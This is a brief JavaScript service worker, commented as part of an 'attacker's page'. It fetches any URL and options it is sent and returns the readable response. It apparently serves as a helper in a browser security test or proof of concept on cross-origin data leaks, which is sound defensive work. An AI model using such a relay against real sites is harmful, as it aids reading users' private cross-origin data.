// Service worker of the attacker's page: fetches what it is told to and posts back what it could read.
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('message', ({ data: { url, options }, ports: [port] }) => {
  fetch(url, options)
    .then(async (response) => {
      const text = await response.text();
      port.postMessage(response.type.startsWith('opaque') ? text : `${response.status} ${text}`);
    })
    .catch(() => port.postMessage(''));
});
